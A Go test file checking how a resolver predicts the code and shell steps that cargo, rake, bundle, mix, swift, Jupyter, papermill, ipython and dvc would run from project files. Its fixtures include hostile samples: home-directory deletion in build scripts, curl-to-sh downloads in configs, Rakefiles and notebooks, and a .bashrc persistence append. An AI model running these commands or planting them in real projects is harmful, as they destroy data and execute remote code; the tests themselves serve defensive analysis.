package buildfile

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// TestResolveEcosystems covers the runners of language ecosystems and
// notebooks: cargo, rake, rails, gem, bundle, mix, swift, jupyter,
// papermill, ipython and dvc.
func TestResolveEcosystems(t *testing.T) {
	const (
		buildRS   = "fn main() {\n    println!(\"cargo:rerun-if-changed=proto/a.proto\");\n}\n"
		evilRS    = "fn main() { let _ = std::fs::remove_dir_all(std::env::var(\"HOME\").unwrap()); }\n"
		rakefile  = "task :test do\n  sh \"ruby -Itest test/all.rb\"\nend\n"
		gemfile   = "source \"https://rubygems.org\"\ngem \"rake\"\n"
		mixExs    = "defmodule App.MixProject do\n  use Mix.Project\nend\n"
		pkgSwift  = "// swift-tools-version:5.9\nimport PackageDescription\nlet package = Package(name: \"A\")\n"
		dvcYAML   = "stages:\n  prep:\n    cmd: python prep.py\n    wdir: src\n  train:\n    cmd:\n      - python train.py\n      - rm -rf ~/models\n"
		notebook  = `{"cells": [{"cell_type": "markdown", "source": "# Title"}, {"cell_type": "code", "source": ["import pandas as pd\n", "df = pd.read_csv('sales.csv')\n", "!curl -s https://x.example/i | sh\n", "files = !ls data\n", "%run helper.py\n", "%pip install evil\n", "df.plot()"]}, {"cell_type": "code", "source": "%%bash\nrm -rf ~/data\n"}], "metadata": {"kernelspec": {"language": "python"}}, "nbformat": 4}`
		helperPy  = "import os\n"
		rNotebook = `{"cells": [{"cell_type": "code", "source": "unlink('~/x')"}], "metadata": {"kernelspec": {"language": "R"}}}`
	)
	rs := func(file, text, dir string) Step { return Step{File: file, Text: text, Lang: Rust, Dir: dir} }
	rb := func(file, text, dir string) Step { return Step{File: file, Text: text, Lang: Ruby, Dir: dir} }
	sh := func(file string, line int, text, dir string) Step {
		return Step{File: file, Line: line, Text: text, Lang: Shell, Dir: dir}
	}
	tests := []struct {
		name  string
		args  []string
		home  string
		env   []string
		files fakeFiles
		want  Plan
	}{
		{name: "cargo build runs build.rs", args: []string{"cargo", "build", "--release"},
			files: fakeFiles{"/w/Cargo.toml": "[package]\nname = \"a\"\n", "/w/build.rs": buildRS},
			want:  Plan{Runner: "cargo", Read: []string{"/w/Cargo.toml", "/w/build.rs"}, Steps: []Step{rs("/w/build.rs", buildRS, w)}}},
		{name: "cargo build = path and build = false", args: []string{"cargo", "test", "--workspace"},
			files: fakeFiles{"/w/Cargo.toml": "[package]\nname = \"a\"\nbuild = \"gen/make.rs\"\n[workspace]\nmembers = [\"crates/*\", \"tools\"]\nexclude = [\"crates/old\"]\n",
				"/w/gen/make.rs": evilRS, "/w/build.rs": "not run",
				"/w/crates/p/Cargo.toml": "[package]\nname = \"p\"\n[dependencies]\nq = { path = \"../../q\" }\nserde = \"1\"\n", "/w/crates/p/build.rs": buildRS,
				"/w/crates/old/Cargo.toml": "[package]\nname = \"old\"\n", "/w/crates/old/build.rs": evilRS,
				"/w/tools/Cargo.toml": "[package]\nname = \"t\"\nbuild = false\n", "/w/tools/build.rs": evilRS,
				"/w/q/Cargo.toml": "[package]\nname = \"q\"\n", "/w/q/build.rs": buildRS},
			want: Plan{Runner: "cargo", Read: []string{"/w/Cargo.toml", "/w/gen/make.rs", "/w/crates/", "/w/crates/p/Cargo.toml", "/w/crates/p/build.rs",
				"/w/q/Cargo.toml", "/w/q/build.rs", "/w/tools/Cargo.toml"},
				Steps: []Step{rs("/w/gen/make.rs", evilRS, w), rs("/w/crates/p/build.rs", buildRS, "/w/crates/p"), rs("/w/q/build.rs", buildRS, "/w/q")}}},
		{name: "cargo finds Cargo.toml upwards and reads the configs of every parent", args: []string{"cargo", "run"},
			files: fakeFiles{"/Cargo.toml": "[package]\nname = \"a\"\n", "/w/.cargo/config.toml": "[target.x86_64-unknown-linux-gnu]\nrunner = [\"sh\", \"-c\", \"curl https://x.example | sh\"]\n",
				"/.cargo/config": "[build]\nrustc-wrapper = \"sccache\"\n"},
			want: Plan{Runner: "cargo", Read: []string{"/w/.cargo/config.toml", "/.cargo/config", "/Cargo.toml"}, Steps: []Step{
				sh("/w/.cargo/config.toml", 2, "sh -c 'curl https://x.example | sh'", w),
				sh("/.cargo/config", 2, "sccache", w),
			}}},
		{name: "cargo build does not run the target runner", args: []string{"cargo", "build"},
			files: fakeFiles{"/w/Cargo.toml": "[package]\nname = \"a\"\n", "/w/.cargo/config.toml": "[target.'cfg(unix)']\nrunner = \"./evil\"\n"},
			want:  Plan{Runner: "cargo", Read: []string{"/w/.cargo/config.toml", "/w/Cargo.toml"}}},
		{name: "cargo aliases expand to the sub-command", args: []string{"cargo", "+nightly", "xt", "--quiet"},
			files: fakeFiles{"/w/Cargo.toml": "[package]\nname = \"a\"\n", "/w/build.rs": buildRS, "/w/.cargo/config.toml": "[alias]\nxt = \"t --all\"\nloop = \"loop\"\n"},
			want:  Plan{Runner: "cargo", Read: []string{"/w/.cargo/config.toml", "/w/Cargo.toml", "/w/build.rs"}, Steps: []Step{rs("/w/build.rs", buildRS, w)}}},
		{name: "cargo alias loops run nothing", args: []string{"cargo", "loop"},
			files: fakeFiles{"/w/Cargo.toml": "[package]\nname = \"a\"\n", "/w/.cargo/config.toml": "[alias]\nloop = \"loop\"\n"},
			want:  Plan{Read: []string{"/w/.cargo/config.toml"}}},
		{name: "cargo fmt, metadata and --version run no build script", args: []string{"cargo", "fmt", "--check"},
			files: fakeFiles{"/w/Cargo.toml": "[package]\nname = \"a\"\n", "/w/build.rs": evilRS}, want: Plan{}},
		{name: "cargo install from a registry reads nothing", args: []string{"cargo", "install", "ripgrep"},
			files: fakeFiles{"/w/Cargo.toml": "[package]\nname = \"a\"\n", "/w/build.rs": evilRS}, want: Plan{}},
		{name: "cargo install --path reads that package", args: []string{"cargo", "install", "--path", "cli"},
			files: fakeFiles{"/w/cli/Cargo.toml": "[package]\nname = \"c\"\n", "/w/cli/build.rs": evilRS},
			want:  Plan{Runner: "cargo", Read: []string{"/w/cli/Cargo.toml", "/w/cli/build.rs"}, Steps: []Step{rs("/w/cli/build.rs", evilRS, "/w/cli")}}},
		{name: "cargo with a Cargo.toml that is not TOML is a problem", args: []string{"cargo", "check"},
			files: fakeFiles{"/w/Cargo.toml": "[package\n"},
			want:  Plan{Runner: "cargo", Read: []string{"/w/Cargo.toml"}, Problems: []Problem{{File: "/w/Cargo.toml", Reason: "Cargo.toml is not valid TOML"}}}},
		{name: "cargo without a Cargo.toml runs nothing", args: []string{"cargo", "build"}, files: fakeFiles{},
			want: Plan{Runner: "cargo"}},
		{name: "cargo --config setting a runner is a problem", args: []string{"cargo", "run", "--config", "target.x86_64-unknown-linux-gnu.runner='sh'", "--config", "profile.dev.opt-level=1"},
			files: fakeFiles{},
			want:  Plan{Runner: "cargo", Problems: []Problem{{File: "--config target.x86_64-unknown-linux-gnu.runner='sh'", Reason: "the command line sets a program cargo runs"}}}},
		{name: "RUSTC_WRAPPER set for cargo is a problem", args: []string{"cargo", "build"}, env: []string{"RUSTC_WRAPPER", "RUST_LOG"},
			files: fakeFiles{},
			want:  Plan{Runner: "cargo", Problems: []Problem{{File: "RUSTC_WRAPPER", Reason: "a variable set for the command names a program cargo runs"}}}},

		{name: "rake -T loads the Rakefile and rakelib", args: []string{"rake", "-T"},
			files: fakeFiles{"/w/Rakefile": rakefile, "/w/rakelib/db.rake": "task :x\n", "/w/rakelib/notes.txt": "x"},
			want: Plan{Runner: "rake", Read: []string{"/w/Rakefile", "/w/rakelib/", "/w/rakelib/db.rake"},
				Steps: []Step{rb("/w/Rakefile", rakefile, w), sh("/w/Rakefile", 2, "ruby -Itest test/all.rb", w), rb("/w/rakelib/db.rake", "task :x\n", w)}}},
		{name: "rake runs the sh commands of the Rakefile and rakelib as shell, each on its line", args: []string{"rake", "test"},
			files: fakeFiles{"/w/Rakefile": "task :test do\n  sh \"curl -s https://x.example/p | bash\"\nend\n",
				"/w/rakelib/a.rake": "task :a do\n  sh cmd\nend\n"},
			want: Plan{Runner: "rake", Read: []string{"/w/Rakefile", "/w/rakelib/", "/w/rakelib/a.rake"},
				Steps: []Step{rb("/w/Rakefile", "task :test do\n  sh \"curl -s https://x.example/p | bash\"\nend\n", w),
					sh("/w/Rakefile", 2, "curl -s https://x.example/p | bash", w), rb("/w/rakelib/a.rake", "task :a do\n  sh cmd\nend\n", w)},
				Problems: []Problem{{File: "/w/rakelib/a.rake", Reason: "rake's sh on line 2 runs a command made as the Rakefile runs"}}}},
		{name: "rake looks upwards for rakefile.rb", args: []string{"rake", "spec"},
			files: fakeFiles{"/rakefile.rb": rakefile},
			want:  Plan{Runner: "rake", Read: []string{"/rakefile.rb"}, Steps: []Step{rb("/rakefile.rb", rakefile, "/"), sh("/rakefile.rb", 2, "ruby -Itest test/all.rb", "/")}}},
		{name: "rake --version reads nothing", args: []string{"rake", "--version"}, files: fakeFiles{"/w/Rakefile": rakefile}, want: Plan{}},
		{name: "bundle exec rake reads the Gemfile, then the Rakefile", args: []string{"bundle", "exec", "rake", "db:seed"},
			files: fakeFiles{"/w/Gemfile": gemfile, "/w/Rakefile": rakefile},
			want: Plan{Runner: "rake", Read: []string{"/w/Gemfile", "/w/Rakefile"},
				Steps: []Step{rb("/w/Gemfile", gemfile, w), rb("/w/Rakefile", rakefile, w), sh("/w/Rakefile", 2, "ruby -Itest test/all.rb", w)}}},
		{name: "bundle install evaluates the Gemfile", args: []string{"bundle", "install", "--jobs", "4"},
			files: fakeFiles{"/w/Gemfile": gemfile},
			want:  Plan{Runner: "bundle", Read: []string{"/w/Gemfile"}, Steps: []Step{rb("/w/Gemfile", gemfile, w)}}},
		{name: "a Gemfile's gemspec line evaluates the gemspecs", args: []string{"bundle", "install"},
			files: fakeFiles{"/w/Gemfile": "source \"https://rubygems.org\"\n  gemspec\n", "/w/a.gemspec": "Gem::Specification.new\n"},
			want: Plan{Runner: "bundle", Read: []string{"/w/Gemfile", "/w/", "/w/a.gemspec"}, Steps: []Step{
				rb("/w/Gemfile", "source \"https://rubygems.org\"\n  gemspec\n", w), rb("/w/a.gemspec", "Gem::Specification.new\n", w)}}},
		{name: "BUNDLE_GEMFILE names a Gemfile not known", args: []string{"bundle", "install"}, env: []string{"BUNDLE_GEMFILE"},
			files: fakeFiles{"/w/Gemfile": gemfile},
			want:  Plan{Runner: "bundle", Problems: []Problem{{File: "BUNDLE_GEMFILE", Reason: "the Gemfile is named by a variable set for the command"}}}},
		{name: "bundle config evaluates nothing", args: []string{"bundle", "config", "list"}, files: fakeFiles{"/w/Gemfile": gemfile}, want: Plan{}},
		{name: "gem build NAME.gemspec", args: []string{"gem", "build", "x.gemspec"},
			files: fakeFiles{"/w/x.gemspec": "Gem::Specification.new\n"},
			want:  Plan{Runner: "gem", Read: []string{"/w/x.gemspec"}, Steps: []Step{rb("/w/x.gemspec", "Gem::Specification.new\n", w)}}},
		{name: "gem build alone reads the gemspecs of the directory", args: []string{"gem", "build"},
			files: fakeFiles{"/w/x.gemspec": "a", "/w/README": "b"},
			want:  Plan{Runner: "gem", Read: []string{"/w/", "/w/x.gemspec"}, Steps: []Step{rb("/w/x.gemspec", "a", w)}}},
		{name: "gem list reads nothing", args: []string{"gem", "list"}, files: fakeFiles{"/w/x.gemspec": "a"}, want: Plan{}},
		{name: "rails db:seed runs the Rakefile, lib/tasks and db/seeds.rb", args: []string{"bin/rails", "db:seed"},
			files: fakeFiles{"/w/Rakefile": rakefile, "/w/lib/tasks/a.rake": "t", "/w/db/seeds.rb": "User.create!\n"},
			want: Plan{Runner: "rails", Read: []string{"/w/Rakefile", "/w/lib/tasks/", "/w/lib/tasks/a.rake", "/w/db/seeds.rb"},
				Steps: []Step{rb("/w/Rakefile", rakefile, w), sh("/w/Rakefile", 2, "ruby -Itest test/all.rb", w), rb("/w/lib/tasks/a.rake", "t", w), rb("/w/db/seeds.rb", "User.create!\n", w)}}},
		{name: "rails server is no rake task", args: []string{"rails", "server"}, files: fakeFiles{"/w/Rakefile": rakefile}, want: Plan{}},

		{name: "mix compile evaluates mix.exs", args: []string{"mix", "compile"}, files: fakeFiles{"/w/mix.exs": mixExs},
			want: Plan{Runner: "mix", Read: []string{"/w/mix.exs"}, Steps: []Step{{File: "/w/mix.exs", Text: mixExs, Lang: Elixir, Dir: w}}}},
		{name: "mix run FILE runs the file too", args: []string{"mix", "run", "--no-halt", "priv/seed.exs", "x"},
			files: fakeFiles{"/w/mix.exs": mixExs, "/w/priv/seed.exs": "File.rm_rf!(System.user_home())"},
			want: Plan{Runner: "mix", Read: []string{"/w/mix.exs", "/w/priv/seed.exs"}, Steps: []Step{
				{File: "/w/mix.exs", Text: mixExs, Lang: Elixir, Dir: w},
				{File: "/w/priv/seed.exs", Text: "File.rm_rf!(System.user_home())", Lang: Elixir, Dir: w}}}},
		{name: "mix help reads nothing", args: []string{"mix", "help"}, files: fakeFiles{"/w/mix.exs": mixExs}, want: Plan{}},

		{name: "swift build evaluates Package.swift", args: []string{"swift", "build", "--package-path", "pkg"},
			files: fakeFiles{"/w/pkg/Package.swift": pkgSwift},
			want:  Plan{Runner: "swift", Read: []string{"/w/pkg/Package.swift"}, Steps: []Step{{File: "/w/pkg/Package.swift", Text: pkgSwift, Lang: Swift, Dir: "/w/pkg"}}}},
		{name: "swift FILE is not a package command", args: []string{"swift", "script.swift"}, files: fakeFiles{"/w/Package.swift": pkgSwift}, want: Plan{}},

		{name: "nbconvert --execute runs the code cells, shell lines, %run and %pip", args: []string{"jupyter", "nbconvert", "--to", "html", "--execute", "nb/a.ipynb"},
			files: fakeFiles{"/w/nb/a.ipynb": notebook, "/w/nb/helper.py": helperPy},
			want: Plan{Runner: "jupyter", Read: []string{"/w/nb/a.ipynb", "/w/nb/helper.py"}, Steps: []Step{
				{File: "/w/nb/helper.py", Text: helperPy, Lang: Python, Dir: "/w/nb"},
				{File: "/w/nb/a.ipynb", Line: 2, Text: "import pandas as pd\ndf = pd.read_csv('sales.csv')\n\n\n\n\ndf.plot()", Lang: Python, Dir: "/w/nb"},
				sh("/w/nb/a.ipynb", 2, "curl -s https://x.example/i | sh", "/w/nb"),
				sh("/w/nb/a.ipynb", 2, "ls data", "/w/nb"),
				sh("/w/nb/a.ipynb", 2, "pip install evil", "/w/nb"),
				sh("/w/nb/a.ipynb", 3, "rm -rf ~/data\n", "/w/nb"),
			}}},
		{name: "nbconvert without --execute runs nothing", args: []string{"jupyter", "nbconvert", "--to", "html", "a.ipynb"},
			files: fakeFiles{"/w/a.ipynb": notebook}, want: Plan{}},
		{name: "jupyter execute of a notebook that is not JSON is a problem", args: []string{"jupyter", "execute", "a.ipynb"},
			files: fakeFiles{"/w/a.ipynb": "{cells"},
			want:  Plan{Runner: "jupyter", Read: []string{"/w/a.ipynb"}, Problems: []Problem{{File: "/w/a.ipynb", Reason: "the notebook is not valid JSON"}}}},
		{name: "an R notebook's cells are R", args: []string{"jupyter-execute", "r.ipynb"},
			files: fakeFiles{"/w/r.ipynb": rNotebook},
			want:  Plan{Runner: "jupyter", Read: []string{"/w/r.ipynb"}, Steps: []Step{{File: "/w/r.ipynb", Line: 1, Text: "unlink('~/x')", Lang: "r", Dir: w}}}},
		{name: "papermill runs the input in --cwd", args: []string{"papermill", "-p", "alpha", "0.6", "in.ipynb", "out.ipynb", "--cwd", "data"},
			files: fakeFiles{"/w/in.ipynb": `{"cells": [{"cell_type": "code", "source": "%%script bash\nid\n"}]}`},
			want:  Plan{Runner: "papermill", Read: []string{"/w/in.ipynb"}, Steps: []Step{sh("/w/in.ipynb", 1, "id\n", "/w/data")}}},
		{name: "%%writefile is the shell write of its body", args: []string{"jupyter", "execute", "w.ipynb"},
			files: fakeFiles{"/w/w.ipynb": `{"cells": [{"cell_type": "code", "source": "%%writefile -a ~/.bashrc\ncurl -s https://x.example/u | sh\n"}, {"cell_type": "code", "source": "%%writefile notes.txt\nCELL_EOF\n"}, {"cell_type": "code", "source": "%%html\n<b>x</b>"}]}`},
			want: Plan{Runner: "jupyter", Read: []string{"/w/w.ipynb"}, Steps: []Step{
				sh("/w/w.ipynb", 1, "cat >> ~/.bashrc <<'CELL_EOF'\ncurl -s https://x.example/u | sh\nCELL_EOF", w),
				sh("/w/w.ipynb", 2, "cat > notes.txt <<'CELL_EOF_'\nCELL_EOF\nCELL_EOF_", w),
			}}},
		{name: "papermill from a URL is a problem", args: []string{"papermill", "s3://b/in.ipynb", "out.ipynb"}, files: fakeFiles{},
			want: Plan{Runner: "papermill", Problems: []Problem{{File: "s3://b/in.ipynb", Reason: "the notebook is fetched when the command runs"}}}},
		{name: "papermill --prepare-only runs nothing", args: []string{"papermill", "--prepare-only", "in.ipynb", "out.ipynb"},
			files: fakeFiles{"/w/in.ipynb": notebook}, want: Plan{}},
		{name: "ipython FILE.ipy runs its magics", args: []string{"ipython", "--no-banner", "s.ipy", "arg"},
			files: fakeFiles{"/w/s.ipy": "x = 1\n!rm -rf build\n"},
			want: Plan{Runner: "ipython", Read: []string{"/w/s.ipy"}, Steps: []Step{
				{File: "/w/s.ipy", Text: "x = 1", Lang: Python, Dir: w},
				sh("/w/s.ipy", 2, "rm -rf build", w),
			}}},

		{name: "dvc repro runs every stage's cmd in its wdir", args: []string{"dvc", "repro", "train"},
			files: fakeFiles{"/w/dvc.yaml": dvcYAML},
			want: Plan{Runner: "dvc", Read: []string{"/w/dvc.yaml"}, Steps: []Step{
				sh("/w/dvc.yaml", 3, "python prep.py", "/w/src"),
				sh("/w/dvc.yaml", 7, "python train.py", w),
				sh("/w/dvc.yaml", 8, "rm -rf ~/models", w),
			}}},
		{name: "dvc exp run -n NAME runs the stages", args: []string{"dvc", "exp", "run", "-n", "exp1", "sub/dvc.yaml:train"},
			files: fakeFiles{"/w/sub/dvc.yaml": "stages:\n  s:\n    foreach: [1, 2]\n    do:\n      cmd: echo ${item}\n"},
			want:  Plan{Runner: "dvc", Read: []string{"/w/sub/dvc.yaml"}, Steps: []Step{sh("/w/sub/dvc.yaml", 5, "echo ${item}", "/w/sub")}}},
		{name: "dvc repro --dry only prints", args: []string{"dvc", "repro", "--dry"}, files: fakeFiles{"/w/dvc.yaml": dvcYAML},
			want: Plan{Runner: "dvc", DryRun: true}},
		{name: "dvc gc runs no stage", args: []string{"dvc", "gc", "-w"}, files: fakeFiles{"/w/dvc.yaml": dvcYAML}, want: Plan{}},
		{name: "a dvc.yaml that is not YAML is a problem", args: []string{"dvc", "repro"}, files: fakeFiles{"/w/dvc.yaml": "stages: [\n"},
			want: Plan{Runner: "dvc", Read: []string{"/w/dvc.yaml"}, Problems: []Problem{{File: "/w/dvc.yaml", Reason: "dvc.yaml is not valid YAML"}}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Resolve(Invocation{Name: tt.args[0], Args: tt.args[1:], Dir: w, Home: tt.home, Env: tt.env}, tt.files)
			if diff := cmp.Diff(tt.want, got, cmpopts.EquateEmpty(), cmpopts.IgnoreFields(Plan{}, "Size")); diff != "" {
				t.Errorf("Resolve(%q) (-want +got):\n%s", tt.args, diff)
			}
			size := 0
			for _, p := range got.Read {
				size += len(tt.files[p])
			}
			if got.Size != size {
				t.Errorf("Resolve(%q).Size = %d, want %d, the bytes of the files read", tt.args, got.Size, size)
			}
		})
	}
}
